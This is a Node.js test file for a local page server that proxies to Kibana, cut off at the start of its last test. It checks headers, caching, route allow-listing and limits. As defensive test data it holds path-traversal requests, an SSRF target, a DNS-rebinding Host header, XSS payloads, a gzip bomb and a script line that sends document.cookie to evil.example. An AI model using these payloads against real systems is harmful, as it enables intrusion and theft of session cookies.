// The page's server as `make serve` runs it: static files, the Content-Security-Policy, and the
// proxy to Kibana (what it forwards, and everything it refuses). Also the contract of the test
// Kibana the browser tests rely on.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFileSync } from 'node:child_process';
import { gzipSync, gunzipSync, brotliDecompressSync, brotliCompressSync } from 'node:zlib';
import { readFileSync, readdirSync, writeFileSync, mkdirSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { startServer, parseKibanaUrl, isJsonType, plainHttpWarning, acceptedEncodings } from '../server.mjs';
import { startFakeKibana } from './fake-kibana.mjs';
import { loadPackage, rawRequest, closedPortUrl } from './helpers.mjs';

const pkg = await loadPackage();
let kibana;
let page; // the server, proxying to the test Kibana (under a base path)
let plain; // the server without KIBANA_URL

const BODY = { name: 'n', connector_type_id: '.index', config: { index: 'i' } };

before(async () => {
  kibana = await startFakeKibana(pkg, { basePath: '/kbn' });
  page = await startServer({ port: 0, kibanaUrl: kibana.url, timeoutMs: 1000 });
  plain = await startServer({ port: 0 });
});

after(async () => {
  page?.server.close();
  plain?.server.close();
  await kibana?.close();
});

const json = (body) => JSON.stringify(body);
const post = (base, path, { headers = {}, body = BODY } = {}) => fetch(new URL(path, base.url), {
  method: 'POST',
  headers: { 'kbn-xsrf': 'true', 'content-type': 'application/json', authorization: `ApiKey ${kibana.apiKey}`, ...headers },
  body: typeof body === 'string' ? body : json(body),
});

test('the page, its Content-Security-Policy, and nothing outside its folders', async () => {
  const response = await fetch(plain.url);
  assert.equal(response.status, 200);
  const csp = response.headers.get('content-security-policy');
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  assert.match(csp, /connect-src 'self'(;|$)/);
  assert.match(csp, /default-src 'self'/);
  assert.match(await response.text(), /<title>kibana-connectors<\/title>/);
  for (const path of ['/../Cargo.toml', '/%2e%2e/Cargo.toml', '/pkg/..%2f..%2fCargo.toml', '/www/server.mjs', '/test/helpers.mjs']) {
    const res = await fetch(new URL(path, plain.url));
    assert.equal(res.status, 404, path);
  }
  const wasm = await fetch(new URL('/pkg/kibana_connectors_bg.wasm', plain.url));
  assert.equal(wasm.headers.get('content-type'), 'application/wasm');
});

test('/config.json tells the page how to send', async () => {
  assert.deepEqual(await (await fetch(new URL('/config.json', plain.url))).json(), { kibana: null, timeoutMs: 35000 });
  assert.deepEqual(await (await fetch(new URL('/config.json', page.url))).json(), { kibana: { url: kibana.url, route: 'proxy', timeoutMs: 1000 }, timeoutMs: 6000 });
  const direct = await startServer({ port: 0, kibanaUrl: `${kibana.url}/`, direct: true });
  try {
    const response = await fetch(new URL('/config.json', direct.url));
    assert.deepEqual(await response.json(), { kibana: { url: kibana.url, route: 'direct', timeoutMs: 30000 }, timeoutMs: 30000 });
    // The direct route: the page may connect to Kibana's origin, and to nothing else.
    assert.match(response.headers.get('content-security-policy'), new RegExp(`connect-src 'self' ${new URL(kibana.url).origin};`));
    const proxied = await post(direct, '/api/actions/connector');
    assert.equal(proxied.status, 503);
  } finally {
    direct.server.close();
  }
});

/** A GET with the headers given (fetch would add and decode an Accept-Encoding of its own). */
function get(url, headers = {}) {
  return new Promise((resolve, reject) => {
    httpRequest(url, { headers }, (response) => {
      const chunks = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers, body: Buffer.concat(chunks) }));
    }).on('error', reject).end();
  });
}

test('the page\'s files: brotli or gzip as the client asks, ETags and 304s, checked again on every load', async () => {
  await plain.warmed;
  const PUBLIC = new URL('../public/', import.meta.url);
  const files = [['/', new URL('index.html', PUBLIC)], ['/app.js', new URL('app.js', PUBLIC)], ['/pkg/kibana_connectors_bg.wasm', new URL('../../pkg/kibana_connectors_bg.wasm', import.meta.url)]];
  let sizes = { identity: 0, br: 0 };
  for (const [path, file] of files) {
    const bytes = readFileSync(file);
    const url = new URL(path, plain.url);
    const br = await get(url, { 'accept-encoding': 'gzip, deflate, br, zstd' });
    assert.equal(br.headers['content-encoding'], 'br', path);
    assert.deepEqual(brotliDecompressSync(br.body), bytes, path);
    assert.equal(br.headers.vary, 'Accept-Encoding');
    assert.equal(br.headers['cache-control'], 'no-cache');
    const gz = await get(url, { 'accept-encoding': 'gzip' });
    assert.equal(gz.headers['content-encoding'], 'gzip', path);
    assert.deepEqual(gunzipSync(gz.body), bytes, path);
    const none = await get(url, { 'accept-encoding': 'br;q=0, gzip;q=0' });
    assert.equal(none.headers['content-encoding'], undefined, path);
    assert.deepEqual(none.body, bytes, path);
    // One ETag for every encoding of the same bytes; a match costs a 304 and no body.
    assert.match(br.headers.etag, /^W\/"[A-Za-z0-9_-]{22}"$/);
    assert.equal(gz.headers.etag, br.headers.etag);
    const again = await get(url, { 'accept-encoding': 'br', 'if-none-match': br.headers.etag });
    assert.equal(again.status, 304, path);
    assert.equal(again.body.length, 0);
    assert.equal(again.headers.etag, br.headers.etag);
    assert.match(again.headers['content-security-policy'], /script-src 'self'/, 'a 304 keeps the headers');
    assert.equal((await get(url, { 'if-none-match': 'W/"other"' })).status, 200);
    sizes = { identity: sizes.identity + bytes.length, br: sizes.br + br.body.length };
  }
  assert.ok(sizes.br < sizes.identity / 2.5, JSON.stringify(sizes));
  // The config is not cached: it says how this server runs.
  assert.equal((await get(new URL('/config.json', plain.url))).headers['cache-control'], 'no-store');
  assert.deepEqual([...acceptedEncodings('gzip;q=1.0, br; q=0, identity')], ['gzip', 'identity']);
});

test('the brotli kept on disk between runs is used only when it decompresses to the file itself', async () => {
  const app = readFileSync(new URL('../public/app.js', import.meta.url));
  const hash = createHash('sha256').update(app).digest('base64url');
  const dir = join(tmpdir(), 'kibana-connectors-page-br');
  mkdirSync(dir, { recursive: true });
  // Another user's file in the shared temporary folder, under app.js's name.
  writeFileSync(join(dir, `${hash}.br`), brotliCompressSync(Buffer.from('window.evil = 1;')));
  const script = `
    const { startServer } = await import(${JSON.stringify(new URL('../server.mjs', import.meta.url).href)});
    const { request } = await import('node:http');
    const s = await startServer({ port: 0 });
    await s.warmed;
    request(new URL('/app.js', s.url), { headers: { 'accept-encoding': 'br' } }, (r) => {
      const chunks = [];
      r.on('data', (c) => chunks.push(c));
      r.on('end', () => { process.stdout.write(Buffer.concat(chunks).toString('base64')); s.server.close(); });
    }).end();`;
  const out = execFileSync(process.execPath, ['--input-type=module', '-e', script]).toString();
  assert.deepEqual(brotliDecompressSync(Buffer.from(out, 'base64')), app);
});

test('index.html preloads the wasm and every module of the page\'s import graph, so none waits for another', async () => {
  const PUBLIC = new URL('../public/', import.meta.url);
  const html = readFileSync(new URL('index.html', PUBLIC), 'utf8');
  const preloaded = new Set([...html.matchAll(/<link rel="modulepreload" href="([^"]+)">/g)].map(([, href]) => new URL(href, 'http://page/').pathname));
  assert.match(html, /<link rel="preload" href="\/pkg\/kibana_connectors_bg\.wasm" as="fetch" type="application\/wasm" crossorigin>/);
  const graph = new Set();
  const visit = (path) => {
    if (graph.has(path)) return;
    graph.add(path);
    const file = path.startsWith('/pkg/') ? new URL(`../../pkg/${path.slice(5)}`, import.meta.url) : new URL(`.${path}`, PUBLIC);
    const text = readFileSync(file, 'utf8');
    for (const [, target] of text.matchAll(/^\s*(?:import|export)\s[^'"]*?from\s+['"]([^'"]+)['"]/gm)) visit(new URL(target, `http://page${path}`).pathname);
    // The page loads the schema module at start, so what it imports on demand is preloaded too.
    for (const [, target] of text.matchAll(/\bimport\(\s*['"]([^'"]+)['"]\s*\)/g)) visit(new URL(target, `http://page${path}`).pathname);
  };
  visit('/app.js');
  assert.deepEqual([...preloaded].sort(), [...graph].sort());
  assert.ok(readdirSync(PUBLIC).filter((name) => name.endsWith('.js')).every((name) => graph.has(`/${name}`)), 'every module is used');
});

test('KIBANA_URL: http(s), no credentials, no query', () => {
  assert.equal(parseKibanaUrl(undefined), null);
  assert.equal(parseKibanaUrl(''), null);
  assert.equal(parseKibanaUrl('https://kibana.example:5601/'), 'https://kibana.example:5601');
  assert.equal(parseKibanaUrl('http://h/base/'), 'http://h/base');
  assert.throws(() => parseKibanaUrl('https://elastic:changeme@kibana'), /credentials/);
  assert.throws(() => parseKibanaUrl('ftp://kibana'), /http/);
  assert.throws(() => parseKibanaUrl('https://kibana/?x=1'), /query/);
  assert.throws(() => parseKibanaUrl('kibana:5601'), /http/);
});

test('the proxy forwards the create route (with a space and an id) to KIBANA_URL', async () => {
  kibana.reset();
  const response = await post(page, '/s/ops/api/actions/connector/my-index', {
    headers: { cookie: 'sid=secret-cookie', 'x-forwarded-for': '1.2.3.4', 'elastic-api-version': '2023-10-31' },
  });
  assert.equal(response.status, 200);
  assert.equal(response.headers.get('x-kibana-connectors-proxy'), null, 'Kibana\'s own answer');
  assert.equal(response.headers.get('set-cookie'), null);
  assert.equal(response.headers.get('www-authenticate'), null);
  const created = await response.json();
  assert.equal(created.id, 'my-index');
  assert.deepEqual(created.config, pkg.normalize(BODY).body.config);
  const [seen] = kibana.requests;
  assert.equal(seen.url, '/kbn/s/ops/api/actions/connector/my-index');
  assert.equal(seen.headers['kbn-xsrf'], 'true');
  assert.equal(seen.headers.authorization, `ApiKey ${kibana.apiKey}`);
  assert.equal(seen.headers['elastic-api-version'], '2023-10-31');
  assert.equal(seen.headers.cookie, undefined, 'no cookies reach Kibana');
  assert.equal(seen.headers['x-forwarded-for'], undefined);
  assert.deepEqual(seen.body, BODY);

  // Without an id, and Kibana's errors pass through as Kibana wrote them.
  const unauthorized = await post(page, '/api/actions/connector', { headers: { authorization: 'ApiKey wrong' } });
  assert.equal(unauthorized.status, 401);
  assert.equal(unauthorized.headers.get('www-authenticate'), null, 'no browser password prompt');
  assert.equal((await unauthorized.json()).error, 'Unauthorized');
  for (const [method, path] of [['GET', '/api/actions/connectors'], ['GET', '/api/actions/connector_types'], ['GET', '/api/actions/connector/x'], ['DELETE', '/s/ops/api/actions/connector/x'], ['PUT', '/api/actions/connector/x']]) {
    kibana.reset();
    await fetch(new URL(path, page.url), { method, headers: { 'kbn-xsrf': 'true' }, body: method === 'PUT' ? '{}' : undefined });
    assert.equal(kibana.requests.length, 1, `${method} ${path} is forwarded`);
    assert.equal(kibana.requests[0].url, `/kbn${path}`);
  }
});

test('GET /api/status reaches Kibana with the user\'s credentials, and only the version comes back', async () => {
  kibana.reset();
  const response = await fetch(new URL('/api/status', page.url), { headers: { authorization: `ApiKey ${kibana.apiKey}`, cookie: 'sid=x' } });
  assert.equal(response.status, 200);
  assert.deepEqual(await response.json(), { version: { number: `${pkg.validate('{}').kibanaVersion}.0`, build_snapshot: false, build_flavor: 'traditional' } });
  const [seen] = kibana.statusRequests;
  assert.equal(kibana.requests.length, 0);
  assert.equal(seen.url, '/kbn/api/status');
  assert.equal(seen.headers.authorization, `ApiKey ${kibana.apiKey}`);
  assert.equal(seen.headers.cookie, undefined);
  // Kibana's refusal passes as Kibana wrote it.
  const refused = await fetch(new URL('/api/status', page.url), { headers: { authorization: 'ApiKey wrong' } });
  assert.equal(refused.status, 401);
  assert.equal((await refused.json()).error, 'Unauthorized');
  // A status without a readable version gives an empty object, never the rest of the answer.
  kibana.settings.statusAnswer = { status: 200, body: { name: 'k', uuid: 'u', version: 'nine', metrics: {} } };
  try {
    const odd = await fetch(new URL('/api/status', page.url), { headers: { authorization: `ApiKey ${kibana.apiKey}` } });
    assert.deepEqual(await odd.json(), {});
  } finally {
    delete kibana.settings.statusAnswer;
  }
});

/** Requests the proxy must refuse without reaching Kibana: [what, raw request line + headers, status]. */
function refusals(host) {
  const h = `Host: ${host}\r\n`;
  return [
    ['another Kibana API', `GET /api/saved_objects/_find HTTP/1.1\r\n${h}`, 404],
    ['a write to the status route', `POST /api/status HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 405],
    ['a route under the status route', `GET /api/status/x HTTP/1.1\r\n${h}`, 404],
    ['the security API', `POST /api/security/role/x HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 404],
    ['another actions route: _execute runs a connector', `POST /api/actions/connector/x/_execute HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 404],
    ['the legacy action route', `POST /api/actions/action HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 404],
    ['an internal route', `GET /internal/actions/connectors HTTP/1.1\r\n${h}`, 404],
    ['a space route to another API', `GET /s/ops/api/spaces/space HTTP/1.1\r\n${h}`, 404],
    ['encoded traversal', `GET /api/actions/connector/..%2f..%2f..%2fapi%2fstatus HTTP/1.1\r\n${h}`, 400],
    ['encoded dots', `GET /api/actions/connector/%2e%2e HTTP/1.1\r\n${h}`, 400],
    ['a raw dot segment', `GET /api/actions/../status HTTP/1.1\r\n${h}`, 400],
    ['a dot segment in the space prefix', `GET /s/../api/actions/connectors HTTP/1.1\r\n${h}`, 400],
    ['a backslash', `GET /api/actions/connector\\..\\status HTTP/1.1\r\n${h}`, 400],
    ['a double slash', `GET /api/actions//connectors HTTP/1.1\r\n${h}`, 400],
    ['a query string', `GET /api/actions/connectors?path=/api/status HTTP/1.1\r\n${h}`, 400],
    ['an absolute URL', `GET http://169.254.169.254/api/actions/connectors HTTP/1.1\r\n${h}`, 400],
    ['an absolute URL to Kibana itself', `GET ${new URL(kibana.url).origin}/api/status HTTP/1.1\r\n${h}`, 400],
    ['a protocol-relative target', `GET //evil.example/api/actions/connectors HTTP/1.1\r\n${h}`, 400],
    ['another Host header (DNS rebinding)', 'GET /api/actions/connectors HTTP/1.1\r\nHost: evil.example\r\n', 421],
    ['another port in the Host header', 'GET /api/actions/connectors HTTP/1.1\r\nHost: 127.0.0.1:1\r\n', 421],
    ['no Host header', 'GET /api/actions/connectors HTTP/1.0\r\n', 421],
    ['PATCH', `PATCH /api/actions/connector/x HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 405],
    ['OPTIONS (no CORS preflight)', `OPTIONS /api/actions/connector/x HTTP/1.1\r\n${h}Origin: http://evil.example\r\nAccess-Control-Request-Method: POST\r\n`, 405],
    ['TRACE', `TRACE /api/actions/connectors HTTP/1.1\r\n${h}`, 405],
    ['POST on the list route', `POST /api/actions/connectors HTTP/1.1\r\n${h}Content-Length: 0\r\n`, 405],
    ['DELETE without an id', `DELETE /api/actions/connector HTTP/1.1\r\n${h}`, 405],
    ['another origin', `POST /api/actions/connector HTTP/1.1\r\n${h}Origin: http://evil.example\r\nContent-Length: 2\r\n\r\n{}`, 403],
    ['a cross-site request', `POST /api/actions/connector HTTP/1.1\r\n${h}Sec-Fetch-Site: cross-site\r\nContent-Length: 2\r\n\r\n{}`, 403],
    ['a same-site (other port) request', `POST /api/actions/connector HTTP/1.1\r\n${h}Sec-Fetch-Site: same-site\r\nContent-Length: 2\r\n\r\n{}`, 403],
  ];
}

test('the proxy refuses everything but the connector routes, and Kibana sees none of it', async () => {
  const host = new URL(page.url).host;
  for (const [what, head, status] of refusals(host)) {
    kibana.reset();
    const request = head.includes('\r\n\r\n') ? head : `${head}\r\n`;
    const response = await rawRequest(page.url, request.replace('HTTP/1.1\r\n', 'HTTP/1.1\r\nConnection: close\r\n'));
    assert.equal(response.status, status, `${what}: ${response.status} ${response.body}`);
    assert.equal(kibana.requests.length, 0, `${what}: must not reach Kibana`);
  }
  // localhost is the same server: it is served.
  kibana.reset();
  const local = await rawRequest(page.url, `GET /api/actions/connectors HTTP/1.1\r\nHost: localhost:${new URL(page.url).port}\r\nConnection: close\r\n\r\n`);
  assert.equal(local.status, 404, 'Kibana\'s answer (the test Kibana has no list route)');
  assert.equal(kibana.requests.length, 1);
});

/** Kibana's answer to a body over its `server.maxPayload` (1 MiB by default). */
const TOO_LARGE = { statusCode: 413, error: 'Request Entity Too Large', message: 'Payload content length greater than maximum allowed: 1048576' };

test('bodies over 1 MiB get Kibana\'s 413, declared or streamed, and Kibana sees none of them', async () => {
  assert.equal(TOO_LARGE.message, pkg.validate('x'.repeat(1024 * 1024 + 1)).kibanaError.message, 'the checker\'s words');
  const big = `{"name":"${'x'.repeat(1024 * 1024)}"}`;
  const streamed = (total, piece = 64 * 1024) => new ReadableStream({
    start() { this.sent = 0; },
    pull(controller) {
      if (this.sent >= total) return controller.close();
      this.sent += piece;
      controller.enqueue(new TextEncoder().encode('x'.repeat(piece)));
    },
  });
  const cases = [
    ['with Content-Length', () => post(page, '/api/actions/connector', { body: big })],
    ['8 MiB with Content-Length', () => post(page, '/api/actions/connector', { body: 'x'.repeat(8 * 1024 * 1024) })],
    ['chunked, 2 MiB', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true', 'content-type': 'application/json' }, body: streamed(2 * 1024 * 1024), duplex: 'half' })],
    ['chunked, 40 MiB (more than the server drains)', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true' }, body: streamed(40 * 1024 * 1024), duplex: 'half' })],
  ];
  for (const [what, send] of cases) {
    kibana.reset();
    const response = await send().catch((error) => ({ status: `reset (${error.cause?.code ?? error.message})` }));
    if (what.includes('more than the server drains') && typeof response.status === 'string') {
      // Past 16 MiB of draining the server hangs up: a reset is all such a client may get.
      assert.equal(kibana.requests.length, 0);
      continue;
    }
    assert.equal(response.status, 413, what);
    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'refused', what);
    assert.deepEqual(await response.json(), TOO_LARGE, what);
    assert.equal(kibana.requests.length, 0, what);
  }
  // Just under the limit is forwarded.
  kibana.reset();
  const exactly = `{"name":"${'x'.repeat(1024 * 1024 - 11)}"}`;
  assert.equal(Buffer.byteLength(exactly), 1024 * 1024);
  const fits = await post(page, '/api/actions/connector', { body: exactly });
  assert.equal(kibana.requests.length, 1);
  assert.equal(fits.status, 400, 'Kibana\'s own answer (the name is not a connector body)');

  // A raw client that sends its whole over-long body, chunked, and then reads.
  const host = new URL(page.url).host;
  const chunk = 'x'.repeat(256 * 1024);
  const chunks = Array.from({ length: 6 }, () => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('');
  const raw = await rawRequest(page.url, `POST /api/actions/connector HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`);
  assert.equal(raw.status, 413);
  assert.deepEqual(JSON.parse(raw.body), TOO_LARGE);
});

test('the proxy: a Kibana that hangs or is down', async () => {
  kibana.respondNext({ hang: true });
  const started = Date.now();
  const late = await post(page, '/api/actions/connector');
  assert.equal(late.status, 504);
  assert.equal(late.headers.get('x-kibana-connectors-proxy'), 'timeout');
  assert.ok(Date.now() - started < 3000);

  const down = await startServer({ port: 0, kibanaUrl: await closedPortUrl(), timeoutMs: 2000 });
  try {
    const response = await post(down, '/api/actions/connector');
    assert.equal(response.status, 502);
    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'unreachable');
    assert.match((await response.json()).message, /ECONNREFUSED/);
  } finally {
    down.server.close();
  }
});

/** Writes `total` bytes of `piece` (a JSON string's inside) as a chunked answer, with
 *  back-pressure, and records how much was written before the proxy hung up. */
function streamAnswer(total, record, { piece = 'x'.repeat(64 * 1024), headers = {} } = {}) {
  return (request, response) => {
    response.writeHead(200, { 'content-type': 'application/json', ...headers });
    record.written = 0;
    record.closed = new Promise((resolve) => response.on('close', resolve));
    const chunk = Buffer.from(piece);
    response.write('{"x":"');
    const more = () => {
      while (record.written < total && !response.destroyed) {
        record.written += chunk.length;
        if (!response.write(chunk)) return response.once('drain', more);
      }
      if (!response.destroyed) response.end('"}');
    };
    more();
  };
}

test('only JSON answers of Kibana pass, as application/json that a browser never runs', async () => {
  const bad = [
    ['HTML', 200, 'text/html', '<script>parent.stolen = 1</script>'],
    ['HTML with a charset', 200, 'text/html; charset=utf-8', '<html><body>secret-in-body</body></html>'],
    ['a script', 200, 'text/javascript', 'fetch("https://evil.example/?k=" + document.cookie)'],
    ['a script that is also valid JSON', 200, 'application/javascript', '"use strict"'],
    ['JSON as text/plain', 200, 'text/plain', '{"id":"x"}'],
    ['SVG', 200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['application/json-seq', 200, 'application/json-seq', '{"id":"x"}'],
    ['a lookalike type', 200, 'application/jsonx', '{"id":"x"}'],
    ['JSON type, HTML body', 200, 'application/json', '<script>alert(1)</script>'],
    ['JSON type, empty body', 200, 'application/json', ''],
    ['an error page in HTML', 502, 'text/html', '<html><h1>502 Bad Gateway</h1></html>'],
    ['no Content-Type', 200, null, '{"id":"x"}'],
  ];
  for (const [what, status, contentType, text] of bad) {
    kibana.reset();
    kibana.respondNext({
      handle: (request, response) => {
        response.writeHead(status, contentType === null ? {} : { 'content-type': contentType });
        response.end(text);
      },
    });
    const response = await post(page, '/api/actions/connector');
    assert.equal(response.status, 502, what);
    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'bad-answer', what);
    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', what);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', what);
    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/, what);
    const answer = await response.json();
    assert.equal(answer.statusCode, 502);
    assert.match(answer.message, new RegExp(`^Kibana answered ${status} with ${contentType === null ? 'no Content-Type' : `Content-Type ${contentType.replace(/[+]/g, '\\+')}`}`), what);
    assert.match(answer.message, new RegExp(`\\(${Buffer.byteLength(text)} bytes\\)`), what);
    for (const piece of ['<', 'secret-in-body', 'evil.example', 'use strict', '"id"']) assert.ok(!answer.message.includes(piece), `${what}: the body is not quoted`);
  }

  // JSON passes, with its parameters or as a +json subtype, re-labelled as application/json.
  const good = [
    ['application/json', 200],
    ['application/json; charset=utf-8', 200],
    ['Application/JSON;charset=UTF-8', 400],
    ['application/problem+json', 400],
    ['application/vnd.elastic+json; compatible-with=8', 409],
  ];
  for (const [contentType, status] of good) {
    kibana.respondNext({
      handle: (request, response) => {
        response.writeHead(status, { 'content-type': contentType, 'set-cookie': 'sid=kibana', 'x-powered-by': 'kibana' });
        response.end('{"statusCode":400,"message":"<img src=x onerror=alert(1)>"}');
      },
    });
    const response = await post(page, '/api/actions/connector');
    assert.equal(response.status, status, contentType);
    assert.equal(response.headers.get('x-kibana-connectors-proxy'), null, contentType);
    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', contentType);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/);
    assert.equal(response.headers.get('set-cookie'), null);
    assert.equal(response.headers.get('x-powered-by'), null);
    assert.equal((await response.json()).message, '<img src=x onerror=alert(1)>');
  }
  // The proxy's own answers have the same headers.
  const refused = await fetch(new URL('/api/status', page.url));
  assert.match(refused.headers.get('content-security-policy'), /^sandbox(;|$)/);
  assert.equal(refused.headers.get('content-type'), 'application/json; charset=utf-8');

  // An empty 204 (Kibana's answer to DELETE) passes as it is.
  kibana.respondNext({ handle: (request, response) => { response.writeHead(204); response.end(); } });
  const deleted = await fetch(new URL('/api/actions/connector/x', page.url), { method: 'DELETE', headers: { 'kbn-xsrf': 'true' } });
  assert.equal(deleted.status, 204);
  assert.equal(await deleted.text(), '');

  assert.equal(isJsonType('application/json'), true);
  assert.equal(isJsonType(' application/merge-patch+json ; x=1'), true);
  for (const type of [null, '', 'json', 'text/json', 'application/+json', 'application/json+xml', 'application/x-json', 'text/html; x=application/json']) assert.equal(isJsonType(type), false, type);
});

test('Kibana\'s answer is capped at 16 MiB once decoded, counted while it streams', async () => {
  // A gzip bomb: 40 KiB on the wire, 40 MiB of JSON once decoded.
  const bomb = gzipSync(`{"x":"${'x'.repeat(40 * 1024 * 1024)}"}`);
  assert.ok(bomb.length < 100 * 1024);
  kibana.respondNext({
    handle: (request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
      response.end(bomb);
    },
  });
  const before = process.memoryUsage().arrayBuffers;
  const exploded = await post(page, '/api/actions/connector');
  assert.equal(exploded.status, 502);
  assert.equal(exploded.headers.get('x-kibana-connectors-proxy'), 'bad-answer');
  assert.match((await exploded.json()).message, /^Kibana answered 200 with more than 16 MiB/);
  assert.ok(process.memoryUsage().arrayBuffers - before < 48 * 1024 * 1024, 'the decoded answer is not kept whole');

  // A chunked answer without Content-Length: the proxy stops reading (and hangs up) at the cap.
  const record = {};
  kibana.respondNext({ handle: streamAnswer(200 * 1024 * 1024, record) });
  const endless = await post(page, '/api/actions/connector');
  assert.equal(endless.status, 502);
  assert.match((await endless.json()).message, /more than 16 MiB/);
  await record.closed;
  assert.ok(record.written < 64 * 1024 * 1024, `Kibana wrote ${record.written} bytes before the proxy hung up`);

  // A Content-Length over the cap is refused before reading.
  kibana.respondNext({
    handle: (request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-length': 17 * 1024 * 1024 });
      response.write('{"x":"');
    },
  });
  const declared = await post(page, '/api/actions/connector');
  assert.equal(declared.status, 502);
  assert.match((await declared.json()).message, /more than 16 MiB/);

  // Under the cap, gzip or chunked, the answer passes whole.
  const record2 = {};
  kibana.respondNext({ handle: streamAnswer(8 * 1024 * 1024, record2, { headers: { 'content-type': 'application/json; charset=utf-8' } }) });
  const large = await post(page, '/api/actions/connector');
  assert.equal(large.status, 200);
  assert.equal((await large.json()).x.length, 8 * 1024 * 1024);
  const small = gzipSync('{"id":"zipped"}');
  kibana.respondNext({
    handle: (request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
      response.end(small);
    },
  });
  const zipped = await post(page, '/api/actions/connector');
  assert.equal(zipped.status, 200);
  assert.equal(zipped.headers.get('content-encoding'), null);
  assert.deepEqual(await zipped.json(), { id: 'zipped' });
});

test('every answer forbids framing and the browser features the page does not use', async () => {
  for (const [what, response] of [
    ['the page', await fetch(plain.url)],
    ['a file', await fetch(new URL('/app.js', plain.url))],
    ['a 404', await fetch(new URL('/nothing-here', plain.url))],
    ['a proxy refusal', await fetch(new URL('/api/status', page.url))],
    ['Kibana\'s answer', await post(page, '/api/actions/connector')],
  ]) {
    assert.equal(response.headers.get('x-frame-options'), 'DENY', what);
    const policy = response.headers.get('permissions-policy') ?? '';
    for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb']) assert.match(policy, new RegExp(`(^|, )${feature}=\\(\\)(,|$)`), `${what}: ${feature}`);
    assert.ok(response.headers.get('content-security-policy'), what);
    await response.arrayBuffer();
  }
});

/** A raw connection that writes `head`, then `drip` every 100 ms (when given); resolves to
 *  { ms, data } once the server closes it, or { ms: Infinity } after `giveUp` ms. */
function slowClient(url, head, { drip = null, giveUp = 4000 } = {}) {
  return new Promise((resolve) => {
    const started = Date.now();
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(head));
    let data = '';
    const timer = drip === null ? null : setInterval(() => socket.writable && socket.write(drip), 100);
    const stop = setTimeout(() => { socket.destroy(); finish(Infinity); }, giveUp);
    const finish = (ms) => {
      clearInterval(timer);
      clearTimeout(stop);
      resolve({ ms, data });
    };
    socket.setEncoding('utf8');
    socket.on('data', (chunk) => { data += chunk; });
    socket.on('error', () => {});
    socket.on('close', () => finish(Date.now() - started));
  });
}

test('slow clients: headers and requests that never finish are cut off', async () => {
  const limited = await startServer({ port: 0, kibanaUrl: kibana.url, headersTimeoutMs: 500, requestTimeoutMs: 1000 });
  try {
    const host = `Host: ${new URL(limited.url).host}\r\n`;
    kibana.reset();
    const [silent, headers, body] = await Promise.all([
      slowClient(limited.url, ''),
      slowClient(limited.url, `GET / HTTP/1.1\r\n${host}X-Slow: `, { drip: 'a' }),
      slowClient(limited.url, `POST /api/actions/connector HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"name":"`, { drip: 'b' }),
    ]);
    assert.ok(silent.ms < 3000, `a connection that sends nothing: closed after ${silent.ms} ms`);
    assert.ok(headers.ms < 3000, `headers that never end: closed after ${headers.ms} ms`);
    assert.ok(body.ms < 3500, `a body that never ends: closed after ${body.ms} ms`);
    assert.equal(kibana.requests.length, 0);
    // A client that is merely slow but finishes in time is served.
    const ok = await rawRequest(limited.url, `GET /config.json HTTP/1.1\r\n${host}Connection: close\r\n\r\n`);
    assert.equal(ok.status, 200);
    // Waiting for Kibana is not the client's time: an answer later than the request timeout passes.
    kibana.respondNext({ handle: (request, response) => setTimeout(() => response.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"late"}'), 1500) });
    const late = await post(limited, '/api/actions/connector');
    assert.equal(late.status, 200);
    assert.deepEqual(await late.json(), { id: 'late' });
  } finally {
    limited.server.close();
  }
});

test('a client that does not read its answer is dropped once the connection is idle', async () => {
  const idle = await startServer({ port: 0, kibanaUrl: kibana.url, timeoutMs: 500, idleTimeoutMs: 500 });
  try {
    // 15 MiB (under the cap): more than the socket buffers hold, so the server's write stalls.
    const record = {};
    kibana.respondNext({ handle: streamAnswer(15 * 1024 * 1024, record) });
    const socket = connect(Number(new URL(idle.url).port), '127.0.0.1');
    socket.on('error', () => {});
    socket.pause();
    socket.write(`POST /api/actions/connector HTTP/1.1\r\nHost: ${new URL(idle.url).host}\r\nContent-Length: 2\r\n\r\n{}`);
    const connections = () => new Promise((resolve) => idle.server.getConnections((error, count) => resolve(count)));
    const started = Date.now();
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.equal(await connections(), 1);
    while (await connections() > 0 && Date.now() - started < 5000) await new Promise((resolve) => setTimeout(resolve, 100));
    assert.equal(await connections(), 0, 'the server hung up');
    socket.destroy();
  } finally {
    idle.server.close();
  }
});

test('a connection limit: past it, new connections are closed at once', async () => {
